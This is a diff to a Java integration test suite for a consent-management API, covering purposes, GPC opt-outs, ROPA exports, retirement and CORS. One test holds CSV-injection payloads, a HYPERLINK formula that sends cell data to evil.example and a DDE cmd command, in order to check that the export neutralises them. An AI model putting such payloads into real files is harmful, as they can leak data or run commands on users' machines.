@@ -16,17 +16,21 @@ import java.time.Duration;
 import java.time.OffsetDateTime;
 import java.util.HexFormat;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.steward.it.support.Fixtures;
 import org.steward.it.support.Http;
 import org.steward.it.support.StewardServer;
 import org.steward.it.support.Tables;
+import org.steward.platform.kernel.api.Csv;
 
 /** The consent module end to end over HTTP: purposes, notices, receipts, GPC, devices, ROPA, import, unsubscribe. */
 class ConsentIT {
 
     static final StewardServer SERVER = StewardServer.shared();
+    /** The cookie banner's origin that the test servers allow (STEWARD_CONSENT_CORS_ALLOWED_ORIGINS). */
+    static final String BANNER_ORIGIN = StewardServer.BANNER_ORIGIN;
     static final Http HTTP = SERVER.http();
     static String tenant;
     static String subject;
@@ -82,8 +86,13 @@ class ConsentIT {
                 "anonymised-research", "drip-emails", "web-analytics", "direct-marketing",
                 "explicit-consent-marketing", "in-app-analytics", "sale-or-sharing");
         JsonObject sale = HTTP.get("/api/v1/consent/purposes/sale-or-sharing").json();
-        assertThat(sale.getBoolean("saleOrSharing")).isTrue();
-        assertThat(sale.getBoolean("optOutAllowed")).isTrue();
+        assertThat(sale.getString("ccpa")).isEqualTo("SALE");
+        assertThat(sale.getBoolean("retired")).as("policy §11: never sold").isTrue();
+        JsonObject sharing = HTTP.get("/api/v1/consent/purposes/cross-context-advertising").json();
+        assertThat(sharing.getString("ccpa")).isEqualTo("SHARING");
+        assertThat(sharing.getString("legalBasis")).isEqualTo("CONSENT");
+        assertThat(sharing.getBoolean("optOutAllowed")).isTrue();
+        assertThat(sharing.getBoolean("retired")).isFalse();
         assertThat(HTTP.get("/api/v1/consent/purposes/app-provision").json().getString("legalBasis"))
                 .isEqualTo("CONTRACT");
         assertThat(HTTP.get("/api/v1/consent/data-categories").json().getJsonArray("items")).hasSizeGreaterThanOrEqualTo(7);
@@ -174,8 +183,8 @@ class ConsentIT {
     }
 
     @Test
-    void inAppAnalyticsAndDoNotSellAreOrdinaryOptOuts() {
-        for (String p : List.of("in-app-analytics", "sale-or-sharing")) {
+    void inAppAnalyticsAndDoNotShareAreOrdinaryOptOuts() {
+        for (String p : List.of("in-app-analytics", "cross-context-advertising")) {
             Http.Response r = SERVER.apiKey(tenant, "SERVICE").post(consents, "{\"purpose\":\"" + p + "\",\"action\":\"OPT_OUT\"}");
             assertThat(r.status()).as(r.toString()).isEqualTo(201);
             assertThat(r.json().getJsonObject("state").getString("status")).isEqualTo("OPTED_OUT");
@@ -209,7 +218,7 @@ class ConsentIT {
     }
 
     @Test
-    void gpcIsRecordedOnceAsAnOptOutOfSaleOrSharingAndOtherValuesAreIgnored() throws Exception {
+    void gpcIsRecordedOnceAsAnOptOutOfSharingAndOtherValuesAreIgnored() throws Exception {
         Http anon = SERVER.anonymous();
         String device = "dev-" + java.util.UUID.randomUUID();
         String path = "/api/v1/public/consent/devices/" + device;
@@ -226,9 +235,13 @@ class ConsentIT {
         assertThat(post.status()).as(post.toString()).isEqualTo(200);
         assertThat(post.json().getJsonArray("receipts")).hasSize(1);
         assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'device:" + device
-                + "' AND source = 'GPC' AND purpose_key = 'sale-or-sharing' AND action = 'OPT_OUT'")).isEqualTo(1);
+                + "' AND source = 'GPC' AND purpose_key = 'cross-context-advertising' AND action = 'OPT_OUT'"))
+                .isEqualTo(1);
+        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'device:" + device
+                + "' AND purpose_key = 'sale-or-sharing'")).as("nothing is sold: no opt-out of a sale needed")
+                .isZero();
         JsonObject sale = again.json().getJsonArray("choices").stream().map(JsonObject.class::cast)
-                .filter(o -> o.getString("purpose").equals("sale-or-sharing")).findFirst().orElseThrow();
+                .filter(o -> o.getString("purpose").equals("cross-context-advertising")).findFirst().orElseThrow();
         assertThat(sale.getString("status")).isEqualTo("OPTED_OUT");
         assertThat(sale.getString("source")).isEqualTo("GPC");
         problem(anon.get("/api/v1/public/consent/devices/short"), 400, "validation", "deviceId");
@@ -254,7 +267,8 @@ class ConsentIT {
         assertThat(drip.getString("legalBasis")).isEqualTo("LEGITIMATE_INTEREST");
         assertThat(drip.getJsonArray("dataCategories").toString()).contains("Welcome-email activity");
         assertThat(drip.getJsonArray("dataSubjects").toString()).contains("App users");
-        assertThat(drip.getString("recipients")).isEqualTo("not yet recorded");
+        assertThat(drip.getString("recipients")).startsWith("not yet recorded").contains("sharing module");
+        assertThat(drip.getString("transfers")).startsWith("not yet recorded").contains("sharing module");
         // Retention comes from the retention module's policy for each of the purpose's categories.
         assertThat(drip.getString("retention")).contains("welcome-email: erased 30 days after the purpose is fulfilled");
         Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
@@ -265,6 +279,96 @@ class ConsentIT {
         // Descriptions with commas are quoted (RFC 4180).
         assertThat(csv.body()).contains("\"To create user accounts, process billing, manage accounts,");
         problem(SERVER.as(null, "SUPPORT_AGENT").get("/api/v1/inventory/ropa"), 403, "forbidden");
+    }
+
+    /** A CSV row by its header's names. */
+    static Map<String, String> cells(Csv.Row header, Csv.Row row) {
+        Map<String, String> m = new java.util.LinkedHashMap<>();
+        for (int i = 0; i < header.fields().size(); i++) {
+            m.put(header.fields().get(i), i < row.fields().size() ? row.fields().get(i) : null);
+        }
+        return m;
+    }
+
+    /** Art. 30(1)(a) and (g), on a server where the operator configured none of it: the record says so. */
+    @Test
+    void ropaNamesTheControllerThePrivacyOfficerAndTheSecurityMeasuresAndSaysWhatIsNotConfigured() throws Exception {
+        JsonObject ropa = HTTP.get("/api/v1/inventory/ropa").json();
+        JsonObject controller = ropa.getJsonObject("controller");
+        assertThat(controller.getString("name")).isEqualTo("Open Source Consulting Inc.");
+        assertThat(controller.getString("contact")).isEqualTo("https://cloud-osci.atlassian.net/helpcenter/app/");
+        assertThat(controller.getString("address")).isEqualTo("not configured");
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("name")).isEqualTo("not configured");
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("contact")).isEqualTo("not configured");
+        JsonObject measures = ropa.getJsonObject("securityMeasures");
+        String technical = measures.getJsonArray("technical").toString();
+        assertThat(technical).contains("envelope encryption", "blind indexes", "Role-based access control",
+                "hash chain", "Ed25519", "served over plain HTTP");
+        assertThat(measures.getString("organisational")).isEqualTo("not configured");
+        assertThat(ropa.getString("recipientsAndTransfers")).contains("sharing module");
+
+        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
+        List<Csv.Row> rows = Csv.parse(csv.body());
+        assertThat(rows.get(0).fields()).endsWith("controller_name", "controller_address", "controller_contact",
+                "privacy_officer_name", "privacy_officer_contact", "technical_measures", "organisational_measures");
+        Map<String, String> drip = cells(rows.get(0), rows.stream()
+                .filter(r -> r.fields().get(0).equals("drip-emails")).findFirst().orElseThrow());
+        assertThat(drip).containsEntry("controller_name", "Open Source Consulting Inc.")
+                .containsEntry("controller_address", "not configured")
+                .containsEntry("privacy_officer_name", "not configured")
+                .containsEntry("privacy_officer_contact", "not configured")
+                .containsEntry("organisational_measures", "not configured");
+        assertThat(drip.get("technical_measures")).contains("envelope encryption", "Role-based access control");
+        assertThat(drip.get("recipients")).contains("sharing module");
+    }
+
+    /** The configured head (the sweeping server sets it) is in the JSON and on every CSV row. */
+    @Test
+    void ropaCarriesTheConfiguredControllerAndPrivacyOfficerInJsonAndCsv() throws Exception {
+        StewardServer configured = StewardServer.sweeping();
+        JsonObject ropa = configured.http().get("/api/v1/inventory/ropa").json();
+        assertThat(ropa.getJsonObject("controller").getString("address"))
+                .isEqualTo(StewardServer.ROPA_CONTROLLER_ADDRESS);
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("name")).isEqualTo("Min-jun Park");
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("contact")).isEqualTo("privacy@osci.example");
+        assertThat(ropa.getJsonObject("securityMeasures").getString("organisational"))
+                .isEqualTo("Access rights reviewed every quarter");
+        HttpRequest.Builder b = HttpRequest.newBuilder(configured.uri("/api/v1/inventory/ropa"))
+                .header("Accept", "text/csv");
+        configured.http().authenticate(b);
+        String body = HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString()).body();
+        List<Csv.Row> rows = Csv.parse(body);
+        assertThat(rows).hasSizeGreaterThan(1);
+        for (Csv.Row row : rows.subList(1, rows.size())) {
+            Map<String, String> cells = cells(rows.get(0), row);
+            assertThat(cells).containsEntry("controller_address", StewardServer.ROPA_CONTROLLER_ADDRESS)
+                    .containsEntry("privacy_officer_name", "Min-jun Park")
+                    .containsEntry("privacy_officer_contact", "privacy@osci.example")
+                    .containsEntry("organisational_measures", "Access rights reviewed every quarter");
+        }
+    }
+
+    /** A value that a spreadsheet would run as a formula is exported as text (OWASP CSV injection). */
+    @Test
+    void ropaCsvCellsThatStartLikeAFormulaAreWrittenAsText() throws Exception {
+        String u = Fixtures.unique();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click " + u + "\")";
+        Http.Response p = HTTP.post("/api/v1/consent/purposes", Json.createObjectBuilder().add("key", "f-" + u)
+                .add("name", formula).add("description", "@SUM(1+1)*cmd|' /C calc'!A0").add("legalBasis", "CONTRACT")
+                .add("categories", Json.createArrayBuilder().add("contact")).build().toString());
+        assertThat(p.status()).as(p.toString()).isEqualTo(201);
+        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
+        List<Csv.Row> rows = Csv.parse(csv.body());
+        Map<String, String> row = cells(rows.get(0), rows.stream()
+                .filter(r -> r.fields().get(0).equals("f-" + u)).findFirst().orElseThrow());
+        assertThat(row).containsEntry("purpose", "'" + formula)
+                .containsEntry("description", "'@SUM(1+1)*cmd|' /C calc'!A0");
+        // No cell of the export starts like a formula.
+        for (Csv.Row r : rows) {
+            assertThat(r.fields()).noneMatch(f -> !f.isEmpty() && "=+-@\t\r".indexOf(f.charAt(0)) >= 0);
+        }
+        // The JSON keeps the value as it was given.
+        assertThat(HTTP.get("/api/v1/inventory/ropa").body()).contains("\"purpose\":\"=HYPERLINK(");
     }
 
     @Test
@@ -373,5 +477,154 @@ class ConsentIT {
         problem(HTTP.post(base + "/unsubscribe-links", "{\"purpose\":\"app-provision\"}"), 400, "validation", "purpose");
         problem(HTTP.post(base + "/unsubscribe-links", "{\"purpose\":\"drip-emails\",\"validFor\":\"P9999D\"}"), 400,
                 "validation", "validFor");
+    }
+
+    // --- policy §11: never sold; purposes edited and retired (issue 10, items 1 and 9) ---------------------------
+
+    @Test
+    void noPurposeIsCreatedOrChangedIntoASaleAndNothingIsGrantedForOne() throws Exception {
+        String u = Fixtures.unique();
+        long before = count("SELECT COUNT(*) FROM consent_purpose");
+        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"sell-" + u + "\",\"name\":\"Lists\","
+                + "\"description\":\"Selling lists\",\"legalBasis\":\"CONSENT\",\"ccpa\":\"SALE\","
+                + "\"categories\":[\"contact\"]}"), 422, "business-rule", "ccpa");
+        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"ads-" + u + "\",\"name\":\"Ads\","
+                + "\"description\":\"Ads\",\"legalBasis\":\"LEGITIMATE_INTEREST\",\"ccpa\":\"SHARING\","
+                + "\"optOutAllowed\":true,\"categories\":[\"website-visitor\"]}"), 422, "business-rule", "legalBasis");
+        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"ads-" + u + "\",\"name\":\"Ads\","
+                + "\"description\":\"Ads\",\"legalBasis\":\"CONSENT\",\"ccpa\":\"RENT\","
+                + "\"categories\":[\"website-visitor\"]}"), 400, "validation", "ccpa");
+        assertThat(count("SELECT COUNT(*) FROM consent_purpose")).isEqualTo(before);
+        problem(HTTP.patch("/api/v1/consent/purposes/drip-emails", "{\"ccpa\":\"SALE\"}"), 422, "business-rule",
+                "ccpa");
+        assertThat(HTTP.get("/api/v1/consent/purposes/drip-emails").json().getString("ccpa")).isEqualTo("NONE");
+        problem(HTTP.post(consents, "{\"purpose\":\"sale-or-sharing\",\"action\":\"OPT_IN\"}"), 422,
+                "business-rule", "purpose");
+    }
+
+    @Test
+    void purposesAreEditedAndRetiredKeepingTheirHistory() throws Exception {
+        String u = Fixtures.unique();
+        String key = "partner-" + u;
+        Http.Response created = HTTP.post("/api/v1/consent/purposes", "{\"key\":\"" + key + "\",\"name\":\"Partner"
+                + " offers\",\"description\":\"Offers\",\"legalBasis\":\"CONSENT\",\"optOutAllowed\":true,"
+                + "\"categories\":[\"contact\"]}");
+        assertThat(created.status()).as(created.toString()).isEqualTo(201);
+        assertThat(created.json().getString("ccpa")).isEqualTo("NONE");
+        int v = notice(key, "Partner offers by email");
+        Http.Response grant = HTTP.post(consents, "{\"purpose\":\"" + key + "\",\"action\":\"GRANT\","
+                + "\"noticeVersion\":" + v + "}");
+        assertThat(grant.status()).as(grant.toString()).isEqualTo(201);
+        String decision = "/api/v1/consent/decision?subject=" + subject + "&purpose=" + key;
+        assertThat(HTTP.get(decision).json().getBoolean("allowed")).isTrue();
+
+        Http.Response edited = HTTP.patch("/api/v1/consent/purposes/" + key, "{\"name\":\" Partner offers (EU) \","
+                + "\"categories\":[\"contact\",\"website-visitor\"]}");
+        assertThat(edited.status()).as(edited.toString()).isEqualTo(200);
+        assertThat(edited.json().getString("name")).isEqualTo("Partner offers (EU)");
+        assertThat(edited.json().getString("description")).isEqualTo("Offers");
+        assertThat(edited.json().getJsonArray("categories")).hasSize(2);
+        assertThat(edited.json().getString("updatedAt")).isNotBlank();
+        problem(HTTP.patch("/api/v1/consent/purposes/" + key, "{\"legalBasis\":\"CONTRACT\"}"), 400,
+                "unknown-field", "legalBasis");
+        problem(HTTP.patch("/api/v1/consent/purposes/" + key, "{\"name\":\"  \"}"), 400, "validation", "name");
+        problem(HTTP.patch("/api/v1/consent/purposes/no-such-" + u, "{}"), 404, "not-found", "purposeKey");
+        problem(SERVER.as(null, "SUPPORT_AGENT").patch("/api/v1/consent/purposes/" + key, "{}"), 403, "forbidden");
+
+        problem(HTTP.post("/api/v1/consent/purposes/" + key + "/retirement", "{}"), 400, "validation", "reason");
+        Http.Response retired = HTTP.post("/api/v1/consent/purposes/" + key + "/retirement",
+                "{\"reason\":\"The partner programme ended\"}");
+        assertThat(retired.status()).as(retired.toString()).isEqualTo(200);
+        assertThat(retired.json().getBoolean("retired")).isTrue();
+        assertThat(retired.json().getString("retirementReason")).isEqualTo("The partner programme ended");
+        JsonObject d = HTTP.get(decision).json();
+        assertThat(d.getBoolean("allowed")).isFalse();
+        assertThat(d.getString("reason")).isEqualTo("PURPOSE_RETIRED");
+        problem(HTTP.post(consents, "{\"purpose\":\"" + key + "\",\"action\":\"GRANT\",\"noticeVersion\":" + v
+                + "}"), 422, "business-rule", "purpose");
+        assertThat(HTTP.post(consents, "{\"purpose\":\"" + key + "\",\"action\":\"WITHDRAW\"}").status())
+                .as("saying no is still recorded").isEqualTo(201);
+        assertThat(HTTP.get(consents + "/history").json().getJsonArray("events").stream().map(JsonObject.class::cast)
+                .filter(e -> e.getString("purpose").equals(key)).map(e -> e.getString("action")).toList())
+                .containsExactly("GRANT", "WITHDRAW");
+        assertThat(HTTP.get("/api/v1/consent/purposes/" + key + "/notices").json().getJsonArray("items")).hasSize(1);
+        assertThat(HTTP.post("/api/v1/consent/purposes/" + key + "/retirement", "{\"reason\":\"again\"}").json()
+                .getString("retirementReason")).as("retired once").isEqualTo("The partner programme ended");
+        // Audited (a purpose key is no id, so the entry names the kind of target only).
+        assertThat(count("SELECT COUNT(*) FROM platform_audit_entry WHERE action = 'purpose.retire'"
+                + " AND target_type = 'purpose' AND outcome = 'SUCCESS'")).isGreaterThanOrEqualTo(1);
+    }
+
+    @Test
+    void categoriesAreEditedAndRetiredOnceNoCurrentPurposeUsesThem() {
+        String u = Fixtures.unique();
+        String cat = "cat-r-" + u;
+        assertThat(HTTP.post("/api/v1/consent/data-categories", "{\"key\":\"" + cat + "\",\"name\":\"Billing\","
+                + "\"description\":\"Invoices\",\"dataSubjects\":\"Customers\"}").status()).isEqualTo(201);
+        String purpose = "billing-" + u;
+        assertThat(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"" + purpose + "\",\"name\":\"Billing\","
+                + "\"description\":\"Invoices\",\"legalBasis\":\"CONTRACT\",\"categories\":[\"" + cat + "\"]}")
+                .status()).isEqualTo(201);
+        Http.Response edited = HTTP.patch("/api/v1/consent/data-categories/" + cat, "{\"description\":\"Invoices and"
+                + " receipts\"}");
+        assertThat(edited.status()).as(edited.toString()).isEqualTo(200);
+        assertThat(edited.json().getString("description")).isEqualTo("Invoices and receipts");
+        assertThat(edited.json().getString("name")).isEqualTo("Billing");
+        problem(HTTP.post("/api/v1/consent/data-categories/" + cat + "/retirement", "{\"reason\":\"merged\"}"), 409,
+                "conflict", "categoryKey");
+        assertThat(HTTP.patch("/api/v1/consent/purposes/" + purpose, "{\"categories\":[\"contact\"]}").status())
+                .isEqualTo(200);
+        Http.Response retired = HTTP.post("/api/v1/consent/data-categories/" + cat + "/retirement",
+                "{\"reason\":\"merged into contact\"}");
+        assertThat(retired.status()).as(retired.toString()).isEqualTo(200);
+        assertThat(retired.json().getBoolean("retired")).isTrue();
+        problem(HTTP.patch("/api/v1/consent/purposes/" + purpose, "{\"categories\":[\"contact\",\"" + cat + "\"]}"),
+                422, "business-rule", "categories");
+        problem(HTTP.patch("/api/v1/consent/data-categories/no-such-" + u, "{}"), 404, "not-found", "categoryKey");
+    }
+
+    // --- cookie banners (issue 10, item 7) ------------------------------------------------------------------------
+
+    @Test
+    void aBannerReadsTheCurrentPurposesAndNoticeVersionsWithoutLoggingIn() {
+        int v = notice("web-analytics", "We count visits with Google Analytics " + Fixtures.unique());
+        Http.Response r = SERVER.anonymous().get("/api/v1/public/consent/purposes");
+        assertThat(r.status()).as(r.toString()).isEqualTo(200);
+        List<JsonObject> items = r.json().getJsonArray("items").getValuesAs(JsonObject.class);
+        JsonObject analytics = items.stream().filter(p -> p.getString("key").equals("web-analytics")).findFirst()
+                .orElseThrow();
+        JsonObject en = analytics.getJsonArray("notices").getValuesAs(JsonObject.class).stream()
+                .filter(n -> n.getString("language").equals("en")).findFirst().orElseThrow();
+        assertThat(en.getInt("version")).as("the latest version").isEqualTo(v);
+        assertThat(en.getString("text")).startsWith("We count visits");
+        assertThat(items).extracting(p -> p.getString("key")).contains("cross-context-advertising")
+                .doesNotContain("sale-or-sharing");
+    }
+
+    @Test
+    void thePublicConsentEndpointsAnswerCorsForTheConfiguredOriginsOnly() throws Exception {
+        Http anon = SERVER.anonymous();
+        String path = "/api/v1/public/consent/devices/cors-" + java.util.UUID.randomUUID();
+        Http.Response allowed = raw(anon, "OPTIONS", path, null, null, "Origin", BANNER_ORIGIN,
+                "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type");
+        assertThat(allowed.status()).as(allowed.toString()).isIn(200, 204);
+        assertThat(allowed.header("Access-Control-Allow-Origin")).isEqualTo(BANNER_ORIGIN);
+        assertThat(allowed.header("Access-Control-Allow-Methods")).contains("POST");
+        assertThat(allowed.header("Access-Control-Allow-Headers")).containsIgnoringCase("content-type");
+
+        Http.Response unknown = raw(anon, "OPTIONS", path, null, null, "Origin", "https://evil.example",
+                "Access-Control-Request-Method", "POST");
+        assertThat(unknown.status()).isLessThan(500);
+        assertThat(unknown.header("Access-Control-Allow-Origin")).isNull();
+        assertThat(unknown.header("Access-Control-Allow-Methods")).isNull();
+
+        Http.Response get = raw(anon, "GET", "/api/v1/public/consent/purposes", null, null, "Origin", BANNER_ORIGIN);
+        assertThat(get.status()).isEqualTo(200);
+        assertThat(get.header("Access-Control-Allow-Origin")).isEqualTo(BANNER_ORIGIN);
+        assertThat(raw(anon, "GET", "/api/v1/public/consent/purposes", null, null, "Origin", "https://evil.example")
+                .header("Access-Control-Allow-Origin")).isNull();
+        assertThat(raw(HTTP, "OPTIONS", "/api/v1/consent/purposes", null, null, "Origin", BANNER_ORIGIN,
+                "Access-Control-Request-Method", "GET").header("Access-Control-Allow-Origin"))
+                .as("staff endpoints are not for other origins").isNull();
     }
 }
